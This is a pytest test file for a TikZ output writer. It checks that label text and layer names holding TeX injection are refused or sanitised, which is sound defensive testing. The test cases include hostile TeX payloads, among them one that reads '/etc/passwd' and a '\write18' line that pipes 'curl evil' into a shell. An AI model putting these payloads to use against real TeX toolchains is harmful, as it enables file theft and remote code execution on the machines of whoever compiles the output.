r"""Label text in TikZ output is TeX that whoever compiles the figure runs: the
writer refuses what reaches files or the shell (also for drawings built by
hand, which skip Label's checks), what would end the ``\node`` early, and
keeps layer names out of TeX; document macros pass unchanged."""

from __future__ import annotations

import re
from pathlib import Path

import numpy as np
import pytest
from lgraph_tikz import write_tikz

import lgraph as lg
from lgraph.output.drawing import Drawing, PlacedLabel, Stroke
from lgraph.output.page import Page


def _drawing(*texts: str, family: str = "u1") -> Drawing:
    s = Stroke(xy=np.array([[0.0, 0.0], [2.0, 1.0]]), xyz=np.zeros((2, 3)), family=family)
    labels = [PlacedLabel(t, np.array([1.0, 0.5]), np.zeros(3)) for t in texts]
    return Drawing(strokes=(s,), page=Page(margin=0, extent=72), labels=tuple(labels))


@pytest.mark.parametrize(
    "text, command",
    [
        (r"\input{/etc/passwd}", r"\input"),
        (r"$x$ \immediate\write18{curl evil | sh}", r"\immediate"),
        (r"\openout5=x.tex \write5{\relax}", r"\openout"),
        (r"\catcode`\^=7", r"\catcode"),
        (r"\csname input\endcsname{x}", r"\csname"),
        (r"\def\vx{\input x}", r"\def"),
        (r"\begin{filecontents*}{x.tex}", r"\begin{filecontents*}"),
    ],
)
def test_a_hand_built_label_with_file_or_shell_tex_is_refused_before_writing(
    tmp_path: Path, text: str, command: str
) -> None:
    out = tmp_path / "f.tex"
    expected = "write_tikz: label: text must not use the TeX command " + re.escape(command)
    with pytest.raises(ValueError, match=expected):
        write_tikz(_drawing("fine", text), out)
    assert not out.exists()


@pytest.mark.parametrize(
    "text, why",
    [
        ("^^5cinput{x}", r"must not contain '\^\^'"),
        ("bell\x07", r"must not contain control characters"),
        ("two\nlines", r"must not contain control characters"),
        ("x}; \\draw (0,0) -- (9,9); {", r"balanced braces .* closes nothing"),
        ("{open", r"balanced braces .* 1 unclosed \{"),
        ("50% done", r"must not contain % .* write \\% for a percent sign"),
    ],
)
def test_text_that_would_break_the_node_is_refused(tmp_path: Path, text: str, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        write_tikz(_drawing(text), tmp_path / "f.tex")


def test_escaped_characters_and_harmless_control_words_pass_unchanged(tmp_path: Path) -> None:
    # (document macros such as \vx pass too: tests/test_figures_tex.py compiles them)
    texts = [r"$\{u\} \in \mathbb{R}$ 50\% \\ \in put", r"$\frac{1}{2}\sqrt[3]{x}$"]
    write_tikz(_drawing(*texts), tmp_path / "f.tex")
    tex = (tmp_path / "f.tex").read_text(encoding="utf-8")
    for t in texts:
        assert f"{{{t}}};\n" in tex


def test_labels_made_by_label_are_safe_already(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"Label: text must not use the TeX command \\input"):
        lg.Label(r"$\input{x}$", at=(0, 0, 0))
    scene = lg.Scene()
    scene.add(lg.Sphere(1), lg.ParameterLines(2, 3))
    scene.add(lg.Label(r"$\kappa_n$", at=(0, 0, 1.2), always=True))
    write_tikz(scene.render(lg.ParallelProjector(direction=(1, 0, 0.2))), tmp_path / "s.tex")
    assert r"{$\kappa_n$};" in (tmp_path / "s.tex").read_text(encoding="utf-8")


def test_layer_names_become_plain_style_names(tmp_path: Path) -> None:
    write_tikz(_drawing("x", family="a}\\input{b}%c d"), tmp_path / "f.tex")
    tex = (tmp_path / "f.tex").read_text(encoding="utf-8")
    assert "\\input" not in tex and "%c" not in tex
    assert "\\draw[lgraph/a--input-b--c-d]" in tex
    assert "\\lgraphstyle{a--input-b--c-d}" in tex
